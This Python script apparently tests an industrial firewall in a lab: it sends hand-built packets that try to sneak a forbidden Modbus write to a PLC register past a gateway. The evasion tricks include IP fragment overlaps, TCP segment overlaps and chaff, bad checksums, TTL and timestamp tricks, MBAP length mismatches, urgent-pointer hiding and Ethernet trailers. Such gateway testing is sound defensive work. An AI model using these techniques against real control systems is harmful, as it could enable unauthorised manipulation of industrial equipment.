#!/usr/bin/python3
"""Evasion attacks on a Modbus/TCP write that the gateway must deny.

Runs inside the lab's corp namespace (ip netns exec <corp> /usr/bin/python3
attacks.py ...). Plays an attacker at 198.18.0.11, an address no interface
in corp owns: frames go out with scapy on the corp interface, and the corp
kernel silently drops the replies (the plant namespace has a static
neighbour entry for 198.18.0.11 pointing at the corp MAC), so the attacker's
TCP sessions are entirely ours, with no kernel resets.

The policy under test allows Modbus reads (0-999) and write_single_register
to 100-150 and denies everything else, in particular writing holding
register 160. Each case tries to get a write of a unique value to register
160 past the gateway; afterwards register 160 is read back through an
allowed read (a normal pymodbus client from 198.18.0.10, the corp kernel's
own address). A case PASSes when register 160 is unchanged. The control
cases check the other direction: an undisguised allowed write (register
120) executes, an undisguised denied write does not.

Usage: attacks.py --policy NAME --src-mac MAC --dst-mac MAC [--iface eth0]
                  [--only CASE[,CASE...]] [--list]
Prints one line per case:
  PASS|FAIL <case> policy=<name> reg160=<before>-><after> [note]
and exits 1 when any case FAILed.
"""
import argparse
import logging
import random
import socket
import struct
import sys
import threading
import time

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
logging.getLogger("pymodbus").setLevel(logging.CRITICAL)
from scapy.all import IP, TCP, Ether, IPOption_NOP, IPOption_EOL, IPOption_Router_Alert  # noqa: E402
from pymodbus.client import ModbusTcpClient  # noqa: E402

ATT = "198.18.0.11"
SRV = "198.18.0.200"
PORT = 502
TARGET = 160      # the denied register
ALLOWED = 120     # an allowed register (write_single_register 100-150)
ATT_B = socket.inet_aton(ATT)
SRV_B = socket.inet_aton(SRV)


# ---------------------------------------------------------------- Modbus bytes
def mbap(tid, pdu, unit=1, length=None):
    return struct.pack(">HHHB", tid, 0, len(pdu) + 1 if length is None else length, unit) + pdu


def read_req(tid, addr=0, qty=1, length=None):
    return mbap(tid, struct.pack(">BHH", 3, addr, qty), length=length)


def write_req(tid, addr, value, length=None):
    return mbap(tid, struct.pack(">BHH", 6, addr, value), length=length)


# ------------------------------------------------------------------ raw wire
class Wire:
    """One AF_PACKET socket on the corp interface; a thread hands each TCP
    segment from the server to the attacker to its session."""

    # Each policy's run draws its source ports from its own range and never
    # reuses one: a session the gateway blocked leaves its connection open
    # at the server (the attacker's RST was dropped too), and a new SYN on
    # that 4-tuple gets a challenge ACK, not a SYN-ACK (a failed handshake).
    SPORT_RANGES = {"strict": (20000, 32999), "availability": (33000, 45999),
                    "reassembling": (46000, 58999)}

    def __init__(self, iface, src_mac, dst_mac, policy=""):
        self.src_mac, self.dst_mac = src_mac, dst_mac
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.sock.bind((iface, 0))
        self.sessions = {}
        self.sports = self.SPORT_RANGES.get(policy, (20000, 60999))
        self.used_sports = set()
        self.lock = threading.Lock()
        threading.Thread(target=self._rx, daemon=True).start()

    def send(self, frame):
        with self.lock:
            self.sock.send(frame if isinstance(frame, bytes) else bytes(frame))

    def _rx(self):
        while True:
            data = self.sock.recv(65535)
            if len(data) < 54 or data[12:14] != b"\x08\x00":
                continue
            ip = data[14:]
            ihl = (ip[0] & 15) * 4
            if ip[9] != 6 or ip[12:16] != SRV_B or ip[16:20] != ATT_B:
                continue
            total = struct.unpack(">H", ip[2:4])[0]
            tcp = ip[ihl:total]
            sport, dport, seq, ack, off, flags, win = struct.unpack(">HHIIBBH", tcp[:16])
            s = self.sessions.get(dport)
            if s is not None and sport == PORT:
                s.on_segment(seq, ack, flags, win, tcp[20:(off >> 4) * 4], tcp[(off >> 4) * 4:])


def ts_option(opts):
    i = 0
    while i < len(opts):
        k = opts[i]
        if k == 0:
            break
        if k == 1:
            i += 1
            continue
        if i + 1 >= len(opts) or opts[i + 1] < 2:
            break
        if k == 8 and opts[i + 1] == 10:
            return struct.unpack(">II", opts[i + 2:i + 10])
        i += opts[i + 1]
    return None


class Session:
    """A TCP client session driven by hand. seq numbers are relative to
    self.base (the first payload byte); S == self.base."""

    def __init__(self, wire, ts=False):
        self.w, self.ts = wire, ts
        self.sport = random.randint(*wire.sports)
        while self.sport in wire.used_sports:
            self.sport = random.randint(*wire.sports)
        wire.used_sports.add(self.sport)
        self.isn = random.getrandbits(32)
        self.base = (self.isn + 1) & 0xFFFFFFFF
        self.rcv_nxt = 0
        self.srv_ack = self.base
        self.srv_win = 0
        self.tsval, self.tsecr = 100000, 0
        self.data = bytearray()
        self.reset = False
        self.synack = threading.Event()
        wire.sessions[self.sport] = self

    # -- receive side
    def on_segment(self, seq, ack, flags, win, opts, payload):
        if flags & 0x04:
            self.reset = True
            return
        if self.ts:
            t = ts_option(opts)
            if t:
                self.tsecr = t[0]
        if flags & 0x12 == 0x12:
            self.rcv_nxt = (seq + 1) & 0xFFFFFFFF
            self.srv_win = win
            self.srv_ack = ack
            self.synack.set()
            return
        if flags & 0x10:
            self.srv_ack = ack
        if payload:
            if seq == self.rcv_nxt:
                self.data += payload
                self.rcv_nxt = (seq + len(payload)) & 0xFFFFFFFF
            self.w.send(self.pkt(b"", seq=self.srv_ack - self.base, flags="A"))

    # -- send side
    def pkt(self, payload=b"", seq=0, flags="PA", ack=None, ip=None, tcp=None, tsval=None):
        opts = []
        if self.ts:
            opts = [("NOP", None), ("NOP", None),
                    ("Timestamp", (self.tsval if tsval is None else tsval, self.tsecr))]
        t = TCP(sport=self.sport, dport=PORT, seq=(self.base + seq) & 0xFFFFFFFF,
                ack=self.rcv_nxt if ack is None else ack & 0xFFFFFFFF,
                flags=flags, window=65535, options=opts, **(tcp or {}))
        p = Ether(src=self.w.src_mac, dst=self.w.dst_mac) / IP(src=ATT, dst=SRV, **(ip or {})) / t
        if payload:
            p = p / payload
        return p

    def send(self, *frames, gap=0.002):
        for f in frames:
            self.w.send(f)
            self.tsval += 1
            time.sleep(gap)

    def connect(self):
        opts = [("MSS", 1460)]
        if self.ts:
            opts += [("NOP", None), ("NOP", None), ("Timestamp", (self.tsval, 0))]
        syn = Ether(src=self.w.src_mac, dst=self.w.dst_mac) / IP(src=ATT, dst=SRV) / TCP(
            sport=self.sport, dport=PORT, seq=self.isn, flags="S", window=65535, options=opts)
        for _ in range(3):
            self.w.send(syn)
            if self.synack.wait(1.0):
                break
        else:
            raise ConnectionError("no SYN-ACK")
        self.send(self.pkt(seq=0, flags="A"))

    def close(self):
        # RST at the server's rcv_nxt (its latest ACK): accepted, ends the session.
        self.w.send(self.pkt(seq=self.srv_ack - self.base, flags="R", ack=0))
        self.w.send(self.pkt(seq=self.srv_ack - self.base, flags="RA"))
        self.w.sessions.pop(self.sport, None)


def bad(chk):
    """A checksum that is certainly wrong: the right one plus one."""
    return (chk + 1) & 0xFFFF or 1


def with_bad_l4(p):
    good = p.__class__(bytes(p))[TCP].chksum
    p = p.copy()
    p[TCP].chksum = bad(good)
    return p


def with_bad_ip(p):
    good = p.__class__(bytes(p))[IP].chksum
    p = p.copy()
    p[IP].chksum = bad(good)
    return p


def ip_fragments(s, seq, payload, pieces, ident):
    """pieces: list of (offset, length[, source bytes]) over the IP payload of
    the packet s.pkt(payload, seq); a piece with a source takes its bytes from
    that other IP payload (for overlaps). Returns Ether frames."""
    full = s.pkt(payload, seq=seq)
    body = bytes(full[IP])[20:]
    out = []
    for piece in pieces:
        off, ln = piece[0], piece[1]
        src = piece[2] if len(piece) > 2 else body
        more = off + ln < len(body)
        f = Ether(src=s.w.src_mac, dst=s.w.dst_mac) / IP(
            src=ATT, dst=SRV, id=ident, proto=6, flags="MF" if more else 0, frag=off // 8) / src[off:off + ln]
        out.append(f)
    return out, body


# ---------------------------------------------------------------------- cases
CASES = []


def case(name):
    def reg(fn):
        CASES.append((name, fn))
        return fn
    return reg


def insertion(s, v, chaff):
    """chaff(frame) turns a benign request at S into one the PLC drops;
    then the real write at S."""
    s.send(chaff(s.pkt(read_req(1), seq=0)))
    s.send(s.pkt(write_req(1, TARGET, v), seq=0))


@case("control_denied_write")
def _(s, v):
    s.send(s.pkt(write_req(1, TARGET, v)))


@case("ins_bad_tcp_checksum")
def _(s, v):
    insertion(s, v, with_bad_l4)


@case("ins_no_ack_flag")
def _(s, v):
    insertion(s, v, lambda p: s.pkt(read_req(1), seq=0, flags="P"))


@case("ins_bad_ip_checksum")
def _(s, v):
    insertion(s, v, with_bad_ip)


@case("ins_ack_unsent_data")
def _(s, v):
    insertion(s, v, lambda p: s.pkt(read_req(1), seq=0, ack=s.rcv_nxt + 0x10000000))


@case("ins_outside_window")
def _(s, v):
    # A benign request far beyond the server's window: a gateway that
    # resynchronises to it would take the real write at S for old data.
    s.send(s.pkt(read_req(1), seq=0x20000000))
    s.send(s.pkt(write_req(1, TARGET, v), seq=0))


@case("ins_ttl1")
def _(s, v):
    # One L2 segment: nothing decrements the TTL, the server gets the chaff
    # (so it takes the read at S and ignores the write as a duplicate).
    insertion(s, v, lambda p: s.pkt(read_req(1), seq=0, ip={"ttl": 1}))


@case("ins_paws_old_timestamp")
def _(s, v):
    insertion(s, v, lambda p: s.pkt(read_req(1), seq=0, tsval=s.tsval - 50000))


def frag_cases():
    for size in (8, 16, 24):
        for order in ("inorder", "reversed", "dup"):
            def fn(s, v, size=size, order=order):
                n = 20 + 12
                pieces = [(o, min(size, n - o)) for o in range(0, n, size)]
                frames, _ = ip_fragments(s, 0, write_req(1, TARGET, v), pieces, random.getrandbits(16))
                if order == "reversed":
                    frames.reverse()
                elif order == "dup":
                    frames.insert(1, frames[0])
                s.send(*frames)
            case(f"ip_frag{size}_{order}")(fn)

    def overlap(s, v, write_first):
        ident = random.getrandbits(16)
        w = bytes(s.pkt(write_req(1, TARGET, v), seq=0)[IP])[20:]
        b = bytes(s.pkt(read_req(1), seq=0)[IP])[20:]
        first, second = (w, b) if write_first else (b, w)
        # [0,24) from one, [8,32) from the other: they disagree on 8..24
        frames, _ = ip_fragments(s, 0, write_req(1, TARGET, v), [(0, 24, first), (8, 24, second)], ident)
        s.send(*frames)
    case("ip_frag_overlap_old_is_write")(lambda s, v: overlap(s, v, True))
    case("ip_frag_overlap_new_is_write")(lambda s, v: overlap(s, v, False))


frag_cases()


@case("tcp_seg_1byte")
def _(s, v):
    w = write_req(1, TARGET, v)
    s.send(*[s.pkt(w[i:i + 1], seq=i) for i in range(len(w))])


@case("tcp_seg_1byte_reordered")
def _(s, v):
    w = write_req(1, TARGET, v)
    s.send(*reversed([s.pkt(w[i:i + 1], seq=i) for i in range(len(w))]))


@case("tcp_seg_overlap_first_benign")
def _(s, v):
    s.send(s.pkt(read_req(1), seq=0), s.pkt(write_req(1, TARGET, v), seq=0))


@case("tcp_seg_overlap_first_write")
def _(s, v):
    s.send(s.pkt(write_req(1, TARGET, v), seq=0), s.pkt(read_req(1), seq=0))


@case("tcp_seg_ooo_longer_replaces")
def _(s, v):
    # Linux: an out-of-order segment at the same seq that covers more
    # replaces the queued one. Benign tail first, then the write's tail plus
    # a read, then the shared first 4 bytes (tid, pid) fill the hole.
    w, r = write_req(1, TARGET, v), read_req(1)
    s.send(s.pkt(r[4:], seq=4), s.pkt(w[4:] + read_req(2), seq=4), s.pkt(w[:4], seq=0))


@case("tcp_seg_ooo_shorter_dropped")
def _(s, v):
    w, r = write_req(1, TARGET, v), read_req(1)
    s.send(s.pkt(w[4:] + read_req(2), seq=4), s.pkt(r[4:], seq=4), s.pkt(w[:4], seq=0))


def chaff_each(s, v, make_chaff, after=False):
    """The write in 4-byte segments, each with a chaff segment carrying the
    read's bytes at the same seq (before it, or after it with after=True)."""
    w, r = write_req(1, TARGET, v), read_req(1)
    for i in range(0, 12, 4):
        real = s.pkt(w[i:i + 4], seq=i)
        chaff = make_chaff(r[i:i + 4], i)
        s.send(*((real, chaff) if after else (chaff, real)))


@case("tcp_chaff_cksum")
def _(s, v):
    chaff_each(s, v, lambda b, i: with_bad_l4(s.pkt(b, seq=i)))


@case("tcp_chaff_null_flags")
def _(s, v):
    chaff_each(s, v, lambda b, i: s.pkt(b, seq=i, flags=""))


@case("tcp_chaff_paws")
def _(s, v):
    chaff_each(s, v, lambda b, i: s.pkt(b, seq=i, tsval=s.tsval - 50000))


@case("tcp_chaff_rexmit")
def _(s, v):
    # Valid benign bytes first, then "retransmissions" of them carrying the write.
    w, r = write_req(1, TARGET, v), read_req(1)
    for i in range(0, 12, 4):
        s.send(s.pkt(r[i:i + 4], seq=i), s.pkt(w[i:i + 4], seq=i))


@case("tcp_chaff_rexmit_write_first")
def _(s, v):
    chaff_each(s, v, lambda b, i: s.pkt(b, seq=i), after=True)


@case("tcp_chaff_wrong_seq")
def _(s, v):
    chaff_each(s, v, lambda b, i: s.pkt(b, seq=i + 0x30000000))


@case("tcp_chaff_syn")
def _(s, v):
    chaff_each(s, v, lambda b, i: s.pkt(b, seq=i, flags="S"))


@case("tcp_chaff_ttl1")
def _(s, v):
    chaff_each(s, v, lambda b, i: s.pkt(b, seq=i, ip={"ttl": 1}))


@case("mbap_overstate_same_segment")
def _(s, v):
    s.send(s.pkt(read_req(1, length=200) + write_req(2, TARGET, v)))


@case("mbap_overstate_next_segment")
def _(s, v):
    r = read_req(1, length=200)
    s.send(s.pkt(r, seq=0), s.pkt(write_req(2, TARGET, v), seq=len(r)))
    # and fill up what the read declared, so a server framing by MBAP length
    # completes it and looks at what follows
    fill = 200 - 1 - 5 - 12
    s.send(s.pkt(b"\x00" * fill, seq=len(r) + 12))


@case("mbap_understate")
def _(s, v):
    # MBAP length 2 (unit + function 3): a server framing by MBAP length
    # takes [unit, 03], then frames the write from the next bytes, which a
    # gateway framing by function code reads as the read's address/quantity.
    s.send(s.pkt(read_req(1, length=2)[:8] + struct.pack(">HH", 7, 0)
                 + struct.pack(">HBBHH", 6, 1, 6, TARGET, v)))


@case("mbap_understate_write_in_pdu")
def _(s, v):
    # A read declaring length 6 whose 12 bytes are followed, in the same
    # segment, by a write whose MBAP says 4 (too short for function 6).
    s.send(s.pkt(read_req(1) + write_req(2, TARGET, v, length=4)))


@case("proto_id_nonzero_write")
def _(s, v):
    # A write whose MBAP protocol id is 1: not Modbus to the gateway's
    # framing (lost), executed by a server that ignores the field (libmodbus).
    s.send(s.pkt(struct.pack(">HHHB", 2, 1, 6, 1) + struct.pack(">BHH", 6, TARGET, v)))


@case("read_then_proto_id_nonzero_write")
def _(s, v):
    s.send(s.pkt(read_req(1) + struct.pack(">HHHB", 2, 1, 6, 1) + struct.pack(">BHH", 6, TARGET, v)))


@case("two_pdus_read_write")
def _(s, v):
    s.send(s.pkt(read_req(1) + write_req(2, TARGET, v)))


@case("two_pdus_allowed_write_then_denied")
def _(s, v):
    s.send(s.pkt(write_req(1, ALLOWED + 1, 1) + write_req(2, TARGET, v)))


def split_cases():
    for k in range(1, 12):
        def fn(s, v, k=k):
            w = write_req(1, TARGET, v)
            s.send(s.pkt(w[:k], seq=0), s.pkt(w[k:], seq=k), gap=0.02)
        case(f"split_at_{k}")(fn)


split_cases()


@case("urg_hidden_byte")
def _(s, v):
    # The server's stack removes the urgent byte (not SO_OOBINLINE); a gateway
    # that keeps it sees an allowed write to 120 (0x78) with value 0xA0vv.
    w = write_req(1, TARGET, v)
    payload = w[:10] + bytes([ALLOWED]) + w[10:]
    s.send(s.pkt(payload, flags="PAU", tcp={"urgptr": 11}))


@case("urg_flag_on_write")
def _(s, v):
    s.send(s.pkt(write_req(1, TARGET, v), flags="PAU", tcp={"urgptr": 1}))


@case("ip_options_nop")
def _(s, v):
    s.send(s.pkt(write_req(1, TARGET, v),
                 ip={"options": [IPOption_NOP(), IPOption_NOP(), IPOption_NOP(), IPOption_EOL()]}))


@case("ip_options_router_alert")
def _(s, v):
    s.send(s.pkt(write_req(1, TARGET, v), ip={"options": [IPOption_Router_Alert()]}))


@case("eth_trailer")
def _(s, v):
    # Bytes past the IP total length: a read request and padding.
    s.send(bytes(s.pkt(write_req(1, TARGET, v))) + read_req(3) + b"\x00" * 6)


@case("eth_trailer_benign_ip")
def _(s, v):
    # The IP packet is a read; the write sits in the trailer. Harmless for
    # the server; a gateway must not judge (or forward) the trailer as data.
    s.send(bytes(s.pkt(read_req(1))) + write_req(2, TARGET, v))


# ---------------------------------------------------------------------- driver
class Reader:
    """Allowed reads and writes through the corp kernel's own address."""

    def __init__(self):
        self.c = ModbusTcpClient(SRV, port=PORT, timeout=2, retries=0)

    def read(self, addr):
        for _ in range(3):
            try:
                if not self.c.connect():
                    raise ConnectionError("connect")
                rr = self.c.read_holding_registers(addr, 1, slave=1)
                if not rr.isError():
                    return rr.registers[0]
            except Exception:
                pass
            self.c.close()
            time.sleep(0.3)
        return None


# (case, policy, server) triples where the denied write EXECUTES today:
# findings, not slack. Each prints XFAIL with its reason and does not fail
# the run; one that stops executing prints XPASS (remove it here).
KNOWN_GAPS = {}
SERVER = "pymodbus"


def run_case(wire, reader, name, fn, value, policy):
    ts = "paws" in name
    before = reader.read(TARGET)
    note = ""
    s = Session(wire, ts=ts)
    try:
        s.connect()
        fn(s, value)
        time.sleep(0.4)
        if s.reset:
            note = "reset"
    except ConnectionError as e:
        note = f"session: {e}"
    finally:
        s.close()
    after = reader.read(TARGET)
    if before is None or after is None:
        ok, note = False, (note + " read-back failed").strip()
    else:
        ok = after == before
        if after == value:
            note = (note + " the denied write EXECUTED").strip()
    word = "PASS" if ok else "FAIL"
    gap = KNOWN_GAPS.get((name, policy, SERVER))
    if gap and before is not None and after is not None:
        word = "XPASS" if ok else "XFAIL"
        note = (note + (" known gap: " if not ok else " no longer executes, remove from KNOWN_GAPS: ")
                + gap).strip()
        ok = True
    print(f"{word} {name} policy={policy} reg{TARGET}={before}->{after}"
          f" (attack value {value}){' ' + note if note else ''}", flush=True)
    return ok


def control_allowed(wire, reader, policy, value):
    s = Session(wire)
    note = ""
    try:
        s.connect()
        s.send(s.pkt(write_req(1, ALLOWED, value)))
        time.sleep(0.4)
        if len(s.data) < 12:
            note = "no answer"
    except ConnectionError as e:
        note = f"session: {e}"
    finally:
        s.close()
    got = reader.read(ALLOWED)
    ok = got == value
    print(f"{'PASS' if ok else 'FAIL'} control_allowed_write policy={policy} reg{ALLOWED}={got}"
          f" (wrote {value}, must execute){' ' + note if note else ''}", flush=True)
    return ok


def control_fragmented(wire, reader, policy, value, reassembles):
    """An allowed write (register 120) cut into 8-byte IP fragments, out of
    order: under `fragments: reassemble` it executes; under `fragments: drop`
    (the default) its fragments are dropped and it does not."""
    s = Session(wire)
    note = ""
    try:
        s.connect()
        n = 20 + 12
        frames, _ = ip_fragments(s, 0, write_req(1, ALLOWED, value),
                                 [(o, min(8, n - o)) for o in range(0, n, 8)], random.getrandbits(16))
        frames.reverse()
        s.send(*frames)
        time.sleep(0.4)
    except ConnectionError as e:
        note = f"session: {e}"
    finally:
        s.close()
    got = reader.read(ALLOWED)
    ok = got is not None and (got == value) == reassembles
    want = "must execute" if reassembles else "fragments dropped: must not execute"
    print(f"{'PASS' if ok else 'FAIL'} control_fragmented_allowed_write policy={policy} reg{ALLOWED}={got}"
          f" (wrote {value}, {want}){' ' + note if note else ''}", flush=True)
    return ok


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--policy", default="?")
    ap.add_argument("--reassembles", action="store_true",
                    help="the policy under test says fragments: reassemble")
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--src-mac")
    ap.add_argument("--dst-mac")
    ap.add_argument("--only", default="")
    ap.add_argument("--list", action="store_true")
    ap.add_argument("--server", default="pymodbus", help="the peer behind the gateway (KNOWN_GAPS)")
    a = ap.parse_args()
    global SERVER
    SERVER = a.server
    if a.list:
        print("control_allowed_write")
        print("control_fragmented_allowed_write")
        for name, _ in CASES:
            print(name)
        return 0
    random.seed()
    wire = Wire(a.iface, a.src_mac, a.dst_mac, a.policy)
    reader = Reader()
    only = set(filter(None, a.only.split(",")))
    fails = []
    base = random.randint(0x4000, 0x7000)
    if not only or "control_allowed_write" in only:
        if not control_allowed(wire, reader, a.policy, base):
            fails.append("control_allowed_write")
    if not only or "control_fragmented_allowed_write" in only:
        if not control_fragmented(wire, reader, a.policy, base + 500, a.reassembles):
            fails.append("control_fragmented_allowed_write")
    for i, (name, fn) in enumerate(CASES):
        if only and name not in only:
            continue
        if not run_case(wire, reader, name, fn, base + 1 + i, a.policy):
            fails.append(name)
    # The allowed path still works after all that.
    if not only and not control_allowed(wire, reader, a.policy, base + 1000):
        fails.append("control_allowed_write(after)")
    print(f"SUMMARY policy={a.policy} failed={len(fails)}: {' '.join(fails) or '-'}", flush=True)
    return 1 if fails else 0


if __name__ == "__main__":
    sys.exit(main())
